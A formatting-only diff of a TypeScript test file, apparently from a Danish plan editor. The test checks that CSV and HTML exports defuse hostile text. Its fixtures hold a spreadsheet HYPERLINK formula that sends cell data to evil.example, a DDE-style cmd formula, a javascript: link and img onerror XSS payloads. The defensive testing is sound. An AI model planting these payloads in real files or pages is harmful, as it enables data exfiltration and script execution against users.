@@ -13,20 +13,26 @@ import { editBody, posOfText } from '../helpers/pm-edit'
 // of the link, <img onerror>). Typed by a real editor, read over real HTTP.
 
 let t: TestServer
-beforeAll(async () => { t = await startTestServer() })
+beforeAll(async () => {
+  t = await startTestServer()
+})
 afterAll(async () => {
   await t.stop()
   removeDir(t.dataDir)
 })
 
 const FORMULA_GOAL = '=HYPERLINK("http://evil.example/?d="&A1;"Klik")'
-const FORMULA_INDICATOR = '@SUM(1+1)*cmd|\' /C calc\'!A0'
+const FORMULA_INDICATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
 const FORMULA_GROUP = '+ledige'
 const BREAKOUT_HREF = 'https://star.dk/)\n\n<img src=x onerror=alert(1)>'
 
 async function hostilePlan(): Promise<{ id: string; token: string }> {
   const admin = t.token('admin', { plan: '*' })
-  const res = await fetch(`${t.httpUrl}/api/plans`, { method: 'POST', headers: { authorization: `Bearer ${admin}` }, body: JSON.stringify({ template: 'demo', title: 'Fjendtlig tekst' }) })
+  const res = await fetch(`${t.httpUrl}/api/plans`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${admin}` },
+    body: JSON.stringify({ template: 'demo', title: 'Fjendtlig tekst' })
+  })
   const { plan } = (await res.json()) as { plan: { id: string } }
   const editor = connectClient(t.wsUrl, plan.id, t.token('editor', { plan: plan.id }))
   await editor.synced()
@@ -35,14 +41,22 @@ async function hostilePlan(): Promise<{ id: string; token: string }> {
     const at = posOfText(s.doc, 'Færre langtidsledige')
     tr.insertText(FORMULA_GOAL, at, at + 'Færre langtidsledige'.length)
     let targetPos = -1
-    tr.doc.descendants((n, p) => { if (n.type.name === 'target' && n.attrs.id === DEMO_IDS.targetLongTerm) targetPos = p; return targetPos < 0 })
+    tr.doc.descendants((n, p) => {
+      if (n.type.name === 'target' && n.attrs.id === DEMO_IDS.targetLongTerm) targetPos = p
+      return targetPos < 0
+    })
     tr.setNodeAttribute(targetPos, 'indicator', FORMULA_INDICATOR)
     tr.setNodeAttribute(targetPos, 'targetGroup', FORMULA_GROUP)
     const link = (href: string) => s.schema.marks.link!.create({ href })
-    tr.insert(1 + tr.doc.child(0).nodeSize, s.schema.node('paragraph', null, [
-      s.schema.text('farligt link', [link('javascript:alert(3)')]), s.schema.text(' og '),
-      s.schema.text('udbrud', [link(BREAKOUT_HREF)]), s.schema.text(' og <img src=y onerror=alert(4)>')
-    ]))
+    tr.insert(
+      1 + tr.doc.child(0).nodeSize,
+      s.schema.node('paragraph', null, [
+        s.schema.text('farligt link', [link('javascript:alert(3)')]),
+        s.schema.text(' og '),
+        s.schema.text('udbrud', [link(BREAKOUT_HREF)]),
+        s.schema.text(' og <img src=y onerror=alert(4)>')
+      ])
+    )
     return tr
   })
   const viewer = t.token('viewer', { plan: plan.id })
@@ -57,7 +71,9 @@ async function hostilePlan(): Promise<{ id: string; token: string }> {
 
 describe('exports defuse hostile text', () => {
   let plan: { id: string; token: string }
-  beforeAll(async () => { plan = await hostilePlan() })
+  beforeAll(async () => {
+    plan = await hostilePlan()
+  })
   const get = (path: string) => fetch(`${t.httpUrl}/api/plans/${plan.id}/${path}`, { headers: { authorization: `Bearer ${plan.token}` } })
 
   it('goals.csv: text cells starting with = + @ get an apostrophe; negative numbers stay numbers', async () => {
